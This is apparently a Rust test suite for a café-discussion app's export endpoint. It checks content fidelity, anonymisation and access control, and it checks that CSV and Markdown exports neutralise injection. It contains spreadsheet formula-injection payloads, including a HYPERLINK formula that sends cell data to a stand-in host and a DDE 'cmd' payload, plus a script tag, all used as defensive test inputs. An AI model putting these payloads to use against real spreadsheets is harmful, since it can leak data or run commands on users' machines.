//! Exporting a café (Markdown, CSV, JSON): what comes out is what was posted, parsed back and
//! compared; hidden and deleted notes stay out; anonymous exports name nobody; only the
//! facilitator may export.

use std::collections::{HashMap, HashSet};

use flamingo_protocol::{
    Auth, CafeExport, Command, CreateCafeRequest, ErrorBody, ErrorCode, NoteId, RoundSpec,
};
use flamingo_tests::{TestClient, TestServer};
use pulldown_cmark::{Event, Parser, Tag, TagEnd};

const NAMES: [&str; 7] = [
    "Ada Lovelace",
    "Grace \"Amazing\" Hopper",
    "Alan, Turing",
    "Katherine Johnson",
    "<b>Edsger</b>",
    "Margaret Hamilton",
    "Tim # Berners-Lee",
];
const ORGS: [&str; 3] = ["Org A", "Org B", "Org, C"];

/// Notes with everything a CSV or Markdown writer can trip on.
fn note_text(i: usize, round: u32) -> String {
    let tag = tag(i, round);
    match i {
        0 => format!("{tag} plain words from the first table"),
        1 => format!("{tag} a \"quoted\", comma-separated, thought"),
        2 => format!("{tag} two lines\nsecond line"),
        3 => format!("# {tag} not a heading <script>alert(1)</script> [link](x)"),
        _ => format!("{tag} ünïcödé 🦩 | pipe"),
    }
}

/// A word that names one note and that no writer needs to escape.
fn tag(i: usize, round: u32) -> String {
    format!("r{round}n{i}")
}

struct Posted {
    note_id: NoteId,
    author: usize,
    round: u32,
    text: String,
}

async fn get(
    server: &TestServer,
    code: &str,
    query: &str,
    key: Option<&str>,
) -> (u16, HashMap<String, String>, String) {
    let mut req =
        reqwest::Client::new().get(server.http_url(&format!("/api/cafes/{code}/export{query}")));
    if let Some(key) = key {
        req = req.header("authorization", format!("Bearer {key}"));
    }
    let resp = req.send().await.expect("http");
    let status = resp.status().as_u16();
    let headers = resp
        .headers()
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_str().unwrap_or("").to_string()))
        .collect();
    (status, headers, resp.text().await.expect("body"))
}

#[tokio::test]
async fn exports_hold_what_was_posted_and_only_the_facilitator_gets_them() {
    let server = TestServer::start().await;
    let created = server
        .create_cafe(&CreateCafeRequest {
            title: "Harvest <of> ideas".into(),
            table_size: Some(3),
            tables: None,
            rounds: vec![
                RoundSpec {
                    question: "What helps us work across boundaries?".into(),
                    minutes: 20,
                },
                RoundSpec {
                    question: "What will we do on Monday?".into(),
                    minutes: 20,
                },
                RoundSpec {
                    question: "A round never played".into(),
                    minutes: 20,
                },
            ],
        })
        .await;
    let code = created.join_code.clone();
    let key = created.facilitator_key.clone();
    let mut fac = TestClient::facilitator(&server, created.cafe_id, &key).await;
    let mut phones = Vec::new();
    for (i, name) in NAMES.iter().enumerate() {
        phones.push(
            TestClient::join(
                &server,
                Auth::Join {
                    join_code: code.clone(),
                    name: (*name).into(),
                    organisation: Some(ORGS[i % ORGS.len()].into()),
                    role: (i % 2 == 0).then(|| "nurse".into()),
                    join_key: None,
                },
            )
            .await,
        );
    }

    let mut posted = Vec::new();
    let mut left_out = HashSet::new();
    for round in 1..=2 {
        fac.command(Command::StartRound).await.expect("start");
        for (i, p) in phones.iter_mut().enumerate() {
            let note_id = uuid::Uuid::new_v4();
            let text = note_text(i, round);
            p.command(Command::PostNote {
                note_id,
                text: text.clone(),
                round: None,
            })
            .await
            .expect("note");
            posted.push(Posted {
                note_id,
                author: i,
                round,
                text,
            });
        }
        // One note taken off the wall, one deleted by its author: neither is exported.
        let hidden = posted[posted.len() - 1].note_id;
        fac.command(Command::HideNote {
            note_id: hidden,
            hidden: true,
        })
        .await
        .expect("hide");
        let deleted = posted[posted.len() - 2].note_id;
        phones[NAMES.len() - 2]
            .command(Command::DeleteNote { note_id: deleted })
            .await
            .expect("delete");
        left_out.extend([hidden, deleted]);
        let seq = fac.command(Command::EndRound).await.expect("end");
        fac.wait_seq(seq).await;
    }
    let kept: Vec<&Posted> = posted
        .iter()
        .filter(|p| !left_out.contains(&p.note_id))
        .collect();
    let view = fac.mirror.cafe().clone();
    let where_posted: HashMap<NoteId, (u32, u32)> = view
        .notes
        .iter()
        .map(|n| (n.note_id, (n.round, n.table)))
        .collect();
    let ids: Vec<String> = phones
        .iter()
        .map(|p| p.participant_id().to_string())
        .collect();

    // JSON: the whole café, with the rotation plan.
    let (status, headers, body) = get(&server, &code, "?format=json", Some(&key)).await;
    assert_eq!(status, 200, "{body}");
    assert!(headers["content-disposition"].contains(".json"));
    let json: CafeExport = serde_json::from_str(&body).expect("the JSON export parses");
    assert_eq!(json.title, "Harvest <of> ideas");
    assert_eq!(json.rounds.len(), 3);
    assert!(json.rounds[2].tables.is_empty(), "round 3 never started");
    for round in 1..=2u32 {
        let exported = &json.rounds[round as usize - 1].tables;
        let seen = fac.mirror.tables(round);
        assert_eq!(exported.len(), seen.len(), "round {round}: tables");
        for (e, s) in exported.iter().zip(seen) {
            assert_eq!(e.table, s.table);
            assert_eq!(e.host, s.host.map(|h| h.to_string()), "round {round} host");
            let members: HashSet<String> = s.members.iter().map(|m| m.to_string()).collect();
            assert_eq!(e.members.iter().cloned().collect::<HashSet<_>>(), members);
        }
    }
    assert_eq!(json.notes.len(), kept.len());
    for p in &kept {
        let n = json
            .notes
            .iter()
            .find(|n| n.note_id == p.note_id)
            .expect("a kept note is exported");
        assert_eq!(n.text, p.text);
        assert_eq!(n.author, ids[p.author]);
        assert_eq!((n.round, n.table), where_posted[&p.note_id]);
    }
    assert!(json.notes.iter().all(|n| !left_out.contains(&n.note_id)));

    // CSV: one row per note, every field back as typed.
    let (status, headers, body) = get(&server, &code, "?format=csv", Some(&key)).await;
    assert_eq!(status, 200, "{body}");
    assert!(headers["content-type"].starts_with("text/csv"));
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .expect("header")
        .iter()
        .map(str::to_owned)
        .collect();
    let col = |name: &str| {
        header
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no {name} column in {header:?}"))
    };
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
    assert_eq!(rows.len(), kept.len());
    for p in &kept {
        let id = p.note_id.to_string();
        let row = rows
            .iter()
            .find(|r| r[col("note_id")] == id)
            .expect("a row per kept note");
        let (round, table) = where_posted[&p.note_id];
        assert_eq!(&row[col("text")], p.text.as_str());
        assert_eq!(&row[col("author")], NAMES[p.author]);
        assert_eq!(&row[col("organisation")], ORGS[p.author % ORGS.len()]);
        assert_eq!(row[col("round")].parse::<u32>().expect("round"), round);
        assert_eq!(row[col("table")].parse::<u32>().expect("table"), table);
        assert_eq!(
            &row[col("question")],
            view.rounds[round as usize - 1].question.as_str()
        );
        let host = fac
            .mirror
            .tables(round)
            .iter()
            .find(|t| t.table == table)
            .and_then(|t| t.host)
            .map(|h| {
                phones
                    .iter()
                    .position(|p| p.participant_id() == h)
                    .expect("host")
            });
        assert_eq!(&row[col("host")], host.map_or("", |h| NAMES[h]));
        assert!(row[col("posted_at")].ends_with('Z'), "RFC 3339 time");
        assert_eq!(&row[col("cafe")], "Harvest <of> ideas");
    }

    // Markdown: the questions, every kept note, and nothing typed turned into markup.
    let (status, headers, md) = get(&server, &code, "?format=markdown", Some(&key)).await;
    assert_eq!(status, 200, "{md}");
    assert!(headers["content-type"].starts_with("text/markdown"));
    assert!(md.starts_with("# Harvest \\<of\\> ideas"));
    assert!(md.contains("What helps us work across boundaries?"));
    assert!(md.contains("## Who sat where"));
    assert!(!md.contains("<script>"), "markup is escaped");
    assert!(md.contains("\\<script\\>"));
    for p in &posted {
        let tag = tag(p.author, p.round);
        assert_eq!(
            md.contains(&tag),
            !left_out.contains(&p.note_id),
            "note {tag} in the report exactly when it is kept"
        );
    }

    // Anonymous: no name and no participant id anywhere, in any format.
    for format in ["json", "csv", "markdown"] {
        let (status, _, body) = get(
            &server,
            &code,
            &format!("?format={format}&authors=anonymous"),
            Some(&key),
        )
        .await;
        assert_eq!(status, 200);
        for name in NAMES {
            assert!(!body.contains(name), "{format} names {name}");
        }
        for name in ["Ada", "Hopper", "Turing", "Edsger", "Hamilton"] {
            assert!(!body.contains(name), "{format} names {name}");
        }
        for id in &ids {
            assert!(
                !body.contains(id.as_str()),
                "{format} holds a participant id"
            );
        }
        // Numbers are shuffled per café, so which ones appear depends on who wrote and hosted.
        assert!(body.contains("Participant "), "{format} uses pseudonyms");
        // Organisations and roles point at people too, unless the sponsor asked for them.
        for org in ["Org A", "Org B", "Org, C", "nurse"] {
            assert!(!body.contains(org), "{format} holds {org:?}");
        }
        let q = format!("?format={format}&authors=anonymousWithOrganisations");
        let (status, _, with_orgs) = get(&server, &code, &q, Some(&key)).await;
        assert_eq!(status, 200, "{with_orgs}");
        // The report names organisations only; JSON and CSV have a role as well.
        assert!(
            with_orgs.contains("Org B") && (format == "markdown" || with_orgs.contains("nurse")),
            "{format}"
        );
        assert!(!NAMES.iter().any(|n| with_orgs.contains(n)), "{format}");
    }

    // Only the facilitator exports; bad requests are typed and say what to do.
    for (query, key, status, code_expected) in [
        ("?format=csv", None, 401, ErrorCode::NotAuthenticated),
        (
            "?format=csv",
            Some("not-the-key"),
            403,
            ErrorCode::BadCredentials,
        ),
        (
            "?format=pdf",
            Some(key.as_str()),
            400,
            ErrorCode::InvalidInput,
        ),
        (
            "?format=csv&authors=some",
            Some(key.as_str()),
            400,
            ErrorCode::InvalidInput,
        ),
    ] {
        let (got, _, body) = get(&server, &code, query, key).await;
        assert_eq!(got, status, "{query}: {body}");
        let err: ErrorBody = serde_json::from_str(&body).expect("an ErrorBody");
        assert_eq!(err.code, code_expected, "{query}");
        assert!(!err.message.is_empty());
    }
    let (got, _, body) = get(&server, "ZZZZZZ", "?format=csv", Some(&key)).await;
    assert_eq!(got, 404, "{body}");
}

/// OWASP's starts of a cell a spreadsheet runs as a formula (a tab or carriage return cannot
/// start what people type: the server trims it).
const FORMULA_STARTS: [char; 4] = ['=', '+', '-', '@'];

/// Who typed formulas and markup everywhere they could: title, question, name, organisation,
/// role, note, theme. Every CSV cell comes back inert, and the Markdown report, rendered by a
/// CommonMark renderer, shows their text as text, with no heading or HTML of theirs.
#[tokio::test]
async fn exports_that_cannot_hurt() {
    let server = TestServer::start().await;
    let formula =
        |start: char, what: &str| format!("{start}HYPERLINK(\"http://x.test/?\"&A1,\"{what}\")");
    let created = server
        .create_cafe(&CreateCafeRequest {
            title: formula('=', "title"),
            table_size: Some(4),
            tables: None,
            rounds: vec![RoundSpec {
                question: "+SUM(1)\u{2028}# Not a heading".into(),
                minutes: 20,
            }],
        })
        .await;
    let (code, key) = (created.join_code.clone(), created.facilitator_key.clone());
    let mut fac = TestClient::facilitator(&server, created.cafe_id, &key).await;
    let mut phones = Vec::new();
    for (i, start) in FORMULA_STARTS.iter().enumerate() {
        phones.push(
            TestClient::join(
                &server,
                Auth::Join {
                    join_code: code.clone(),
                    name: formula(*start, &format!("name{i}")),
                    organisation: Some(formula(*start, "org")),
                    role: Some(formula(*start, "role")),
                    join_key: None,
                },
            )
            .await,
        );
    }
    fac.command(Command::StartRound).await.expect("start");
    // A lone `\r` was a heading in a CommonMark renderer; `&lt;b&gt;` was bold.
    let notes = [
        "=1+2\r# heading from a carriage return\r===",
        "+cmd|' /C calc'!A0",
        "-2+3 &lt;b&gt;not bold&lt;/b&gt; & <i>not html</i>",
        "@SUM(1+1)\r\n\u{2028}> not a quote\u{2029}- not a list",
    ];
    let mut note_ids = Vec::new();
    for (p, text) in phones.iter_mut().zip(notes) {
        let note_id = uuid::Uuid::new_v4();
        p.command(Command::PostNote {
            note_id,
            text: text.into(),
            round: None,
        })
        .await
        .expect("note");
        note_ids.push(note_id);
    }
    fac.command(Command::EndRound).await.expect("end");
    fac.command(Command::OpenHarvest).await.expect("harvest");
    fac.command(Command::CreateTheme {
        theme_id: uuid::Uuid::new_v4(),
        name: "@theme\u{2028}## sub".into(),
        note_ids: note_ids.clone(),
    })
    .await
    .expect("theme");

    for authors in ["shown", "anonymous", "anonymousWithOrganisations"] {
        let (status, _, body) = get(
            &server,
            &code,
            &format!("?format=csv&authors={authors}"),
            Some(&key),
        )
        .await;
        assert_eq!(status, 200, "{body}");
        let mut reader = csv::Reader::from_reader(body.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
        assert_eq!(rows.len(), notes.len());
        for row in &rows {
            for cell in row {
                let first = cell.chars().next();
                assert!(
                    !first.is_some_and(|c| FORMULA_STARTS.contains(&c) || c == '\t' || c == '\r'),
                    "{authors}: a cell a spreadsheet would run: {cell:?}"
                );
            }
        }
        let header: Vec<&str> = reader.headers().expect("header").iter().collect();
        let col = |name: &str| header.iter().position(|h| *h == name).expect(name);
        let texts: HashSet<&str> = rows.iter().map(|r| &r[col("text")]).collect();
        let expected: HashSet<String> = notes.iter().map(|t| format!("'{t}")).collect();
        assert_eq!(
            texts,
            expected.iter().map(String::as_str).collect(),
            "{authors}: the text after the quote is as typed"
        );
    }

    let (status, _, md) = get(&server, &code, "?format=markdown", Some(&key)).await;
    assert_eq!(status, 200, "{md}");
    let mut headings = Vec::new();
    let mut heading: Option<String> = None;
    let mut shown = String::new();
    for event in Parser::new(&md) {
        match event {
            Event::Start(Tag::Heading { level, .. }) => heading = Some(format!("{level:?} ")),
            Event::End(TagEnd::Heading(_)) => headings.extend(heading.take()),
            Event::Text(t) | Event::Code(t) => {
                if let Some(h) = heading.as_mut() {
                    h.push_str(&t);
                }
                shown.push_str(&t);
            }
            Event::SoftBreak | Event::HardBreak => shown.push('\n'),
            Event::Html(h) | Event::InlineHtml(h) => panic!("HTML in the report: {h}\n{md}"),
            Event::Start(Tag::BlockQuote(_) | Tag::CodeBlock(_) | Tag::Link { .. }) => {
                panic!("a quote, code block or link from someone's text:\n{md}")
            }
            _ => {}
        }
    }
    // Every heading is the report's own; the words people typed stay inside them as text.
    let levels: Vec<&str> = headings
        .iter()
        .map(|h| h.split(' ').next().unwrap_or(""))
        .collect();
    assert_eq!(
        levels,
        ["H1", "H2", "H2", "H3", "H4", "H3", "H3", "H2", "H3", "H2"],
        "{headings:#?}"
    );
    assert_eq!(headings[0], format!("H1 {}", formula('=', "title")));
    assert!(
        headings
            .iter()
            .all(|h| !h.contains("heading from") && !h.starts_with("H2 sub"))
    );
    for text in notes {
        for line in text
            .split(['\r', '\n', '\u{2028}', '\u{2029}'])
            .filter(|l| !l.is_empty())
        {
            assert!(shown.contains(line), "{line:?} is not shown as text:\n{md}");
        }
    }
    assert!(shown.contains("&lt;b&gt;not bold&lt;/b&gt; & <i>not html</i>"));
}
